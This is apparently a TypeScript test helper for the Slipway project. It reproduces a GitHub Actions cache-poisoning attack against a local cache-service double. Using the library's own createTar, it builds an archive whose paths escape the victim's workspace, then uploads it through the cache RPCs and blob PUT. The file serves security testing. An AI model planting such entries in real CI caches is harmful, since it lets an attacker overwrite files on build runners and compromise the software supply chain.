/**
 * What an attacker with cache write access does (any job on the default branch,
 * e.g. through a compromised test dependency): save an entry under a key a
 * Slipway action will look up, whose archive holds paths that escape the
 * workspace. The archive is made by @actions/cache's own createTar (tar -P
 * with a manifest, compressed as the runner's client would), and the entry is
 * written through the cache service's RPCs and blob upload like any save.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
// the library's own internals (deep imports bypass its `exports` map): version and tar layout stay in step with it
import {
  getCacheFileName,
  getCacheVersion,
  getCompressionMethod,
} from '../../../node_modules/@actions/cache/lib/internal/cacheUtils.js';
import { createTar } from '../../../node_modules/@actions/cache/lib/internal/tar.js';
import type { ActionsCacheDouble } from '../../doubles/actions-cache/cache-server.ts';

export interface PoisonedEntry {
  key: string;
  /** The paths the victim restores: they make up the entry's version. */
  paths: string[];
  /** The victim's GITHUB_WORKSPACE: tar entries are relative to it and extracted with -P. */
  workspace: string;
  /** Absolute path -> content of each file the entry writes when extracted. */
  files: Record<string, string>;
}

async function rpc(
  double: ActionsCacheDouble,
  method: string,
  body: unknown,
): Promise<Record<string, unknown>> {
  const response = await fetch(`${double.url}/twirp/github.actions.results.api.v1.CacheService/${method}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${await double.token()}` },
    body: JSON.stringify(body),
  });
  const json = (await response.json()) as Record<string, unknown>;
  if (!response.ok || json.ok === false)
    throw new Error(`${method}: ${response.status} ${JSON.stringify(json)}`);
  return json;
}

export async function writePoisonedEntry(double: ActionsCacheDouble, entry: PoisonedEntry): Promise<void> {
  const compression = await getCompressionMethod();
  const version = getCacheVersion(entry.paths, compression);
  const archiveFolder = mkdtempSync(join(tmpdir(), 'poisoned-entry-'));
  const targets = Object.keys(entry.files);
  // createTar archives the listed paths relative to GITHUB_WORKSPACE: put the files there for the
  // moment it runs, then remove them, so the only copy is the one in the cache entry.
  for (const target of targets) {
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, entry.files[target]!);
  }
  const workspace = process.env.GITHUB_WORKSPACE;
  process.env.GITHUB_WORKSPACE = entry.workspace;
  try {
    await createTar(
      archiveFolder,
      targets.map((t) => relative(entry.workspace, t)),
      compression,
    );
  } finally {
    if (workspace === undefined) delete process.env.GITHUB_WORKSPACE;
    else process.env.GITHUB_WORKSPACE = workspace;
    for (const target of targets) rmSync(target, { force: true });
  }
  const archive = readFileSync(join(archiveFolder, getCacheFileName(compression)));
  rmSync(archiveFolder, { recursive: true, force: true });

  const created = await rpc(double, 'CreateCacheEntry', { key: entry.key, version });
  const put = await fetch(String(created.signed_upload_url), {
    method: 'PUT',
    headers: { 'x-ms-blob-type': 'BlockBlob', 'content-length': String(archive.length) },
    body: archive,
  });
  if (put.status !== 201) throw new Error(`PutBlob: ${put.status}`);
  await rpc(double, 'FinalizeCacheEntryUpload', { key: entry.key, version, size_bytes: archive.length });
}
